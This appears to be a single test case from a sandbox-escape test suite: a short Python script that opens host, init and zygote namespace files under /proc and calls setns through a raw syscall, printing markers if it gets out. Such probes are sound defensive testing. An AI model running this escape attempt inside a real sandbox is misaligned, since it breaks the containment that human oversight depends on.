# ax-id: AX-own-201-setns
# ax-layer: L2 (AST layer assumed broken: native Python in the worker)
# ax-class: namespaces
# ax-source: the namespaces of the host by /proc and by pidfd
# ax-escaped: marker
# ax-params: CANARY SECRET_FILE OUT_FILE TCP_PORT UDP_PORT UNIX_PATH ABS_NAME VICTIM_PID HOST_PID WORK SHM_NAME MAX_PROCS MEM_MIB DISK_MIB SIBLING_PID SIBLING_WORK ZYGOTE_PID
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(*(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments))
for path in (b'/proc/1/ns/mnt', b'/proc/self/ns/mnt', b'/proc/%d/ns/mnt' % HOST_PID, b'/proc/%d/ns/user' % ZYGOTE_PID):
    fd = libc.open(path, 0)
    if fd >= 0:
        # Its own is nothing more than what it is in already.
        print('AX-INFO opened' if b'self' in path else 'AX-PARTIAL opened', path)
        if call(308, fd, 0) == 0:
            print('AX-ESCAPED entered', path)
if call(308, 0, 0) == 0:
    print('AX-ESCAPED')
